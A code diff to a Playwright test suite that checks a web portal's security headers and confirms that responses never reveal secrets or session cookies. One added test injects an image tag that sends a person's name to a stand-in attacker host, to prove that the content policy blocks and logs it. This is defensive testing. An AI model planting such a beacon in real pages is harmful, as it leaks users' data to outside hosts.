@@ -2,11 +2,13 @@
  * The headers of every answer, as the build names the routes, compared with e2e/headers.spec.ts-snapshots/headers.txt. After a
  * new route or a changed header, read the difference, then: npx playwright test e2e/headers.spec.ts --update-snapshots
  */
+import { readFileSync } from 'node:fs';
 import { type APIRequestContext, request } from '@playwright/test';
+import { readSecrets } from '../demo/secrets.ts';
 import { listRoutes, listStatic, pathOf } from './build.ts';
 import { insertLiveFor } from './department-rows.ts';
 import { expect, signIn, test } from './fixtures.ts';
-import { portal, ports, provider } from './place.ts';
+import { portal, portalLog, ports, provider } from './place.ts';
 import { ask } from './plain-client.ts';
 
 type Seen = { what: string; who: string; headers: [string, string][] };
@@ -32,8 +34,19 @@ const mask = (name: string, value: string): string => {
   return known;
 };
 
+/** What no answer holds: the secrets of the settings, where they lead, and the sign-in of whoever asks, which no script may read. */
+const secretsFor = async (api: APIRequestContext): Promise<string[]> => {
+  const { clientSecret, sessionSecret, cookieKey } = readSecrets('.demo/e2e');
+  const { cookies } = await api.storageState();
+  const tokens = cookies.filter(({ httpOnly, value }) => httpOnly && value.length > 20).map(({ value }) => value);
+  return [clientSecret, sessionSecret, cookieKey, 'postgres://', 'smtp://', ...tokens];
+};
+
 const look = async (api: APIRequestContext, who: string, path: string, shown = path, method = 'GET'): Promise<Seen> => {
   const answer = await api.fetch(path, { method, maxRedirects: 0 });
+  const body = await answer.text();
+  for (const secret of await secretsFor(api))
+    expect.soft(body.includes(secret), `${shown} (${who}) says ${secret.slice(0, 9)}…`).toBe(false);
   const headers = answer
     .headersArray()
     .map(({ name, value }): [string, string] => [name.toLowerCase(), mask(name.toLowerCase(), value)])
@@ -63,6 +76,7 @@ const directives = ["default-src 'none'", "object-src 'none'", "base-uri 'none'"
 const expectSafe = (seen: Seen): void => {
   for (const directive of directives) expect.soft(headerOf(seen, 'content-security-policy'), seen.what).toContain(directive);
   expect.soft(headerOf(seen, 'content-security-policy'), seen.what).not.toMatch(/unsafe|https?:|\*/);
+  expect.soft(headerOf(seen, 'permissions-policy'), seen.what).toContain('camera=(), ');
   expect.soft(headerOf(seen, 'x-content-type-options'), seen.what).toBe('nosniff');
   expect.soft(headerOf(seen, 'referrer-policy'), seen.what).toBe('same-origin');
   expect.soft(headerOf(seen, 'cross-origin-opener-policy'), seen.what).toBe('same-origin');
@@ -108,6 +122,20 @@ test('every answer has the headers it had', async ({ sql, department }, info) =>
   await api.dispose();
   for (const each of seen) expectSafe(each);
   expect(toText(seen)).toMatchSnapshot('headers.txt');
+});
+
+test('what the policy refuses in a browser is a line of the log', async ({ browserOf, department }) => {
+  const page = await browserOf(department.one);
+  await page.goto('/archive?q=who+is+ill');
+  await page.evaluate(() => {
+    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png?person=ana" alt="">');
+  });
+  const lines = () =>
+    readFileSync(portalLog, 'utf8')
+      .split('\n')
+      .filter((line) => line.includes('content policy: refused in a browser'));
+  await expect.poll(() => lines().some((line) => line.includes('https://evil.example/x.png'))).toBe(true);
+  for (const line of lines()) expect(line).not.toMatch(/person=ana|who\+is\+ill/);
 });
 
 test('a stream is nobody else’s to read or keep', async () => {
